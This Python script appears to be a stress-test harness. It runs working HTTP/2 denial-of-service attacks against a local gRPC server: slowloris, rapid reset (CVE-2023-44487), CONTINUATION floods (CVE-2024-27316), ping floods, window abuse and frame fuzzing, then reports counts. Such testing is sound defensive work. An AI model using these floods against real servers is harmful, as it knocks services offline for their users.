#!/usr/bin/env python3
"""A client that means harm: it speaks TLS 1.3 and raw HTTP/2 with a server on this machine, and
ends by itself.

    http2_abuse.py PORT ATTACK SECONDS

Prints one line of JSON when it is done: how many connections it got, how many frames it sent and
how often the server hung up. Frames are those of RFC 9113.
"""
import json
import os
import random
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS = 0x4
CONNECTIONS_MAX = 200
PATH = b"/gridwhistle.v1.SyncService/Sync"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK (RFC 7541), not Huffman coded, of up to 16,383 bytes."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest = len(value) - 127
    return bytes((127, rest & 127 | 128, rest >> 7)) + value


def header(name, value):
    return b"\x00" + text(name) + text(value)


def request(more=b""):
    """The header block that begins a call."""
    return (header(b":method", b"POST") + header(b":scheme", b"https") + header(b":path", PATH)
            + header(b":authority", b"localhost") + header(b"content-type", b"application/grpc")
            + header(b"te", b"trailers") + more)


class Attacker:
    def __init__(self, port, seconds):
        self.port = port
        self.until = time.monotonic() + seconds
        self.random = random.Random(1)
        self.connections = self.frames = self.hung_up = 0
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname = False
        self.tls.verify_mode = ssl.CERT_NONE  # phones pin the key; whoever attacks does not care
        self.tls.set_alpn_protocols(["h2"])

    def open(self, preface=True):
        """A connection, or nothing where the server takes none now."""
        try:
            raw = socket.create_connection(("127.0.0.1", self.port), timeout=2)
            line = self.tls.wrap_socket(raw)
            if preface:
                line.sendall(PREFACE + frame(SETTINGS, 0, 0))
            line.settimeout(0.2)
            self.connections += 1
            return line
        except OSError:
            time.sleep(0.01)
            return None

    def send(self, line, data, frames=1):
        """Whether it went out. Once in a while what came is read, or the server could not send."""
        try:
            line.sendall(data)
            self.frames += frames
            if self.random.random() < 0.02:
                try:
                    if not line.recv(1 << 16):
                        raise ConnectionResetError
                except TimeoutError:
                    pass
            return True
        except OSError:
            self.hung_up += 1
            line.close()
            return False

    def goes_on(self):
        return time.monotonic() < self.until

    def each_connection(self, burst):
        """Sends what `burst` makes of a stream's number until the server hangs up; then anew."""
        while self.goes_on():
            line, stream = self.open(), 1
            while line is not None and self.goes_on():
                data, frames, stream = burst(stream)
                if not self.send(line, data, frames):
                    line = None
            if line is not None:
                line.close()

    def loris(self):
        """Many connections that say a byte a second of something that never ends."""
        lines = []
        block = request(header(b"x-slow", b"a" * 4000))
        begun = frame(HEADERS, 0, 1, block)
        while self.goes_on():
            while len(lines) < CONNECTIONS_MAX and self.goes_on():
                line = self.open(preface=len(lines) % 2 == 0)
                if line is not None:
                    lines.append([line, 0])
            for entry in lines:
                line, at = entry
                if not self.send(line, begun[at:at + 1] or b"\0", 0):
                    lines.remove(entry)
                else:
                    entry[1] = at + 1
                    self.frames += 1
            time.sleep(0.2)

    def resets(self):
        """Calls that are begun and given up at once (CVE-2023-44487)."""
        def burst(stream):
            data = b""
            for _ in range(50):
                data += frame(HEADERS, END_HEADERS, stream, request())
                data += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            return data, 100, stream
        self.each_connection(burst)

    def pings(self):
        """Pings and settings, each of which asks for an answer."""
        def burst(stream):
            return (frame(PING, 0, 0, b"whistles") + frame(SETTINGS, 0, 0)) * 100, 200, stream
        self.each_connection(burst)

    def headers(self):
        """Headers that go on and on (CVE-2024-27316)."""
        def burst(stream):
            data = frame(HEADERS, 0, stream, request())
            for _ in range(200):
                data += frame(CONTINUATION, 0, stream, header(b"x-more", b"b" * 8000))
            return data, 201, stream + 2
        self.each_connection(burst)

    def windows(self):
        """Calls that are kept open with a window of nothing, and windows beyond all bounds."""
        def burst(stream):
            data = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
            for _ in range(20):
                data += frame(HEADERS, END_HEADERS, stream, request())
                data += frame(DATA, 0, stream, b"\0\0\0\0\4abcd")
                stream += 2
            data += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))
            return data, 42, stream
        self.each_connection(burst)

    def junk(self):
        """Frames of every kind whose content is chance."""
        def burst(stream):
            data = b""
            for _ in range(50):
                size = self.random.randrange(64)
                data += frame(self.random.randrange(12), self.random.randrange(256),
                              self.random.randrange(9), self.random.randbytes(size))
            return data, 50, stream
        self.each_connection(burst)


ATTACKS = ("loris", "resets", "pings", "headers", "windows", "junk")


def main():
    if len(sys.argv) != 4 or sys.argv[2] not in ATTACKS:
        sys.exit(f"usage: {os.path.basename(sys.argv[0])} PORT {'|'.join(ATTACKS)} SECONDS")
    attacker = Attacker(int(sys.argv[1]), float(sys.argv[3]))
    getattr(attacker, sys.argv[2])()
    print(json.dumps({"attack": sys.argv[2], "connections": attacker.connections,
                      "frames": attacker.frames, "hung_up": attacker.hung_up}))


main()
